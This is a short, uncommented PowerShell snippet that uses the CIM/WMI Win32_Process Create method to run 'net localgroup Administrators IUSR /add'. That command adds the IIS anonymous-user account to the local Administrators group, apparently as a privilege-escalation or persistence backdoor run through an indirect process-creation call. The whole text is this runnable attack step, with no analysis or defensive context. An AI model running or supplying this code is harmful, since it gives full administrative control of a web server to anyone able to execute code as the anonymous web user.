$sess = [Microsoft.Management.Infrastructure.CimSession]::Create('localhost')
$c = $sess.GetClass('root/cimv2','Win32_Process')
$p = New-Object Microsoft.Management.Infrastructure.CimMethodParametersCollection
$p.Add([Microsoft.Management.Infrastructure.CimMethodParameter]::Create('CommandLine','net localgroup Administrators IUSR /add','None'))
$sess.InvokeMethod($c,'Create',$p)
